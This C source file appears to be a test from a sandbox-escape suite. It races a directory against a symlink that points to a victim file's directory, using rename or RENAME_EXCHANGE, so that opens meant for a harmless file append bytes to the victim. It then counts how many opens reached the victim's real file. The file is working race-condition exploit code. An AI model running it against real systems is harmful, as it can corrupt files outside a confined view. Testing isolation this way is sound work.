/* A race on a path component: the view resolves "S/a/NAME" while "a" is a
 * harmless directory, the kernel then follows "a" as a symlink to VICTIM's
 * directory. S is a new directory in /tmp.
 *
 *   component_race MODE VICTIM [TRIES]   TRIES opens (5000) of S/a/NAME for appending,
 *                                        more (up to 20 times as many) until one wins
 *     symlink   a is a symlink, replaced (rename) by one to VICTIM's directory and back
 *     exchange  a is a directory, swapped with the symlink b (RENAME_EXCHANGE)
 *
 * Each open that got a file other than the harmless one appends a byte (a
 * "win"): natively VICTIM, in a view maybe its copy. Exit 0 if some open
 * won; "real" counts the wins that got VICTIM's own device and inode.
 */
#include "escape.h"
#include <pthread.h>
#include <linux/fs.h>

static char scratch[] = "/tmp/escape-race-XXXXXX";
static char a[64], b[64], tmp[64], harmless_file[128];
static const char *victim;
static char *victim_dir;
static int exchange;
static volatile int stop;

static void *flip(void *unused)
{
    (void)unused;
    while (!stop) {
        if (exchange) {
            syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
        } else {
            unlink(tmp);
            if (symlink(victim_dir, tmp) == 0)
                rename(tmp, a);
            if (symlink("h", tmp) == 0)
                rename(tmp, a);
        }
    }
    return NULL;
}

static void clean(void)
{
    const char *names[] = {a, b, tmp};
    for (int i = 0; i < 3; i++) {
        char inner[128];
        snprintf(inner, sizeof inner, "%s/%s", names[i], name_of(victim));
        if (unlink(names[i])) {  /* a directory */
            unlink(inner);
            rmdir(names[i]);
        }
    }
    unlink(harmless_file);
    rmdir(joined(scratch, "h"));
    rmdir(scratch);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        unsupported("usage: component_race symlink|exchange VICTIM [TRIES]");
    exchange = !strcmp(argv[1], "exchange");
    if (!exchange && strcmp(argv[1], "symlink"))
        unsupported("unknown mode");
    victim = argv[2];
    victim_dir = dir_of(victim);
    int tries = argc > 3 ? atoi(argv[3]) : 5000;
    struct stat target, decoy;
    if (stat(victim, &target))
        fail("stat");
    if (!mkdtemp(scratch))
        fail("mkdtemp");
    snprintf(a, sizeof a, "%s/a", scratch);
    snprintf(b, sizeof b, "%s/b", scratch);
    snprintf(tmp, sizeof tmp, "%s/tmp", scratch);
    char *harmless = exchange ? a : joined(scratch, "h");
    snprintf(harmless_file, sizeof harmless_file, "%s/%s", harmless, name_of(victim));
    int fd;
    if (mkdir(harmless, 0755) || (fd = creat(harmless_file, 0644)) < 0)
        fail("make the harmless directory");
    if (fstat(fd, &decoy))
        fail("fstat");
    close(fd);
    if (exchange ? symlink(victim_dir, b) : symlink("h", a))
        fail("symlink");
    char path[128];
    snprintf(path, sizeof path, "%s/%s", a, name_of(victim));
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, NULL))
        fail("pthread_create");
    int wins = 0, real = 0;
    for (int i = 0; i < tries || (!wins && i < 20 * tries); i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd < 0)
            continue;
        struct stat st;
        if (!fstat(fd, &st) && (st.st_dev != decoy.st_dev || st.st_ino != decoy.st_ino) &&
            write(fd, "x", 1) == 1) {
            wins++;
            real += st.st_dev == target.st_dev && st.st_ino == target.st_ino;
        }
        close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
    clean();
    printf("wins: %d (real: %d)\n", wins, real);
    if (!wins) {
        fprintf(stderr, "no open reached the victim in %d tries\n", 20 * tries);
        return 1;
    }
    return 0;
}
